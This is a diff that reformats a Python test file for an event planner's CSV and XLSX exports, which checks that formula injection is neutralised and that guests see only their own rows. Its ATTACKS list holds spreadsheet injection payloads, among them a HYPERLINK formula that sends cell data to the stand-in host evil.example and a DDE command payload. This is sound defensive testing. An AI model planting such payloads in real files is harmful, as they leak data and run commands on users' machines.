@@ -13,23 +13,49 @@ import sys
 import openpyxl
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from support.paths import DATA, ROOT
+from support.plans import event, plan
 
 from planner import load_plan, parse_plan
 from planner.exports.ics import delegation_feed, full_feed, public_feed
 from planner.exports.tables import FORMULA_START, export_table, is_formula, neutralise
 
-from support.paths import DATA, ROOT
-from support.plans import event, plan
-
-ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)",
-           "\t=1+1", "\r=1+1", " =cmd|' /C calc'!A0", "＝1+1", "=1+1\n=2+2"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    " =cmd|' /C calc'!A0",
+    "＝1+1",
+    "=1+1\n=2+2",
+]
 
 
 def _plan_with(title: str, notes: str = "", person: str = "Escort", city: str = "Amiens"):
-    document = plan(event("a", "2027-05-07T10:00", "2027-05-07T11:00", "rathaus", title=title, notes=notes,
-                          delegations=["amiens"], people=["esc"], public=True),
-                    event("b", "2027-05-07T12:00", "2027-05-07T13:00", "park", title="Other delegation",
-                          notes="secret of Leeds", delegations=["leeds"]))
+    document = plan(
+        event(
+            "a",
+            "2027-05-07T10:00",
+            "2027-05-07T11:00",
+            "rathaus",
+            title=title,
+            notes=notes,
+            delegations=["amiens"],
+            people=["esc"],
+            public=True,
+        ),
+        event(
+            "b",
+            "2027-05-07T12:00",
+            "2027-05-07T13:00",
+            "park",
+            title="Other delegation",
+            notes="secret of Leeds",
+            delegations=["leeds"],
+        ),
+    )
     document["people"][2]["name"] = person
     document["delegations"][0]["city"] = city
     return parse_plan(document)
@@ -41,8 +67,7 @@ def _csv_cells(data: bytes, separator: str = ",") -> list[list[str]]:
 
 
 # An apostrophe `neutralise` put after a separator or line break, before what would begin a formula.
-_INNER_APOSTROPHE = re.compile(
-    r"""([,;\r\n]++ *+)'(?=[ "]*+(?:[""" + re.escape("".join(sorted(FORMULA_START))) + r"""]|\Z))""")
+_INNER_APOSTROPHE = re.compile(r"""([,;\r\n]++ *+)'(?=[ "]*+(?:[""" + re.escape("".join(sorted(FORMULA_START))) + r"""]|\Z))""")
 
 
 def _read_back(cell: str) -> str:
@@ -111,9 +136,22 @@ def test_neutralise_leaves_ordinary_values_alone():
 def test_guests_and_public_see_only_their_columns_and_rows():
     sample = _plan_with("Reception", notes="internal: VIP parking")
     internal = _csv_cells(export_table(sample, full_feed(sample), "csv"))
-    assert internal[0] == ["Day", "Start", "End", "Title", "Kind", "Venue", "Address", "Delegations", "People",
-                           "Status", "Public", "Notes", "ID"]
-    assert ["2027-05-07", "10:00", "11:00", "Reception"] == internal[1][:4]
+    assert internal[0] == [
+        "Day",
+        "Start",
+        "End",
+        "Title",
+        "Kind",
+        "Venue",
+        "Address",
+        "Delegations",
+        "People",
+        "Status",
+        "Public",
+        "Notes",
+        "ID",
+    ]
+    assert internal[1][:4] == ["2027-05-07", "10:00", "11:00", "Reception"]
     assert "internal: VIP parking" in internal[1] and len(internal) == 3
 
     guest = _csv_cells(export_table(sample, delegation_feed(sample, "amiens"), "csv"))
@@ -126,12 +164,30 @@ def test_guests_and_public_see_only_their_columns_and_rows():
 
 def test_cli_export_table(tmp_path):
     out = tmp_path / "amiens.xlsx"
-    done = subprocess.run([sys.executable, "-m", "planner", "export-table", str(DATA / "dortbunt-2027.json"),
-                           "--delegation", "amiens", "-o", str(out)], cwd=ROOT, capture_output=True, text=True)
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "planner",
+            "export-table",
+            str(DATA / "dortbunt-2027.json"),
+            "--delegation",
+            "amiens",
+            "-o",
+            str(out),
+        ],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+    )
     assert done.returncode == 0, done.stderr
     sample = load_plan(DATA / "dortbunt-2027.json")
     rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
     assert len(rows) == 1 + len(delegation_feed(sample, "amiens").events)
-    done = subprocess.run([sys.executable, "-m", "planner", "export-table", str(DATA / "dortbunt-2027.json"),
-                           "--venue", "nowhere"], cwd=ROOT, capture_output=True, text=True)
+    done = subprocess.run(
+        [sys.executable, "-m", "planner", "export-table", str(DATA / "dortbunt-2027.json"), "--venue", "nowhere"],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+    )
     assert done.returncode == 2 and done.stderr.strip() == "error: unknown venue 'nowhere'"
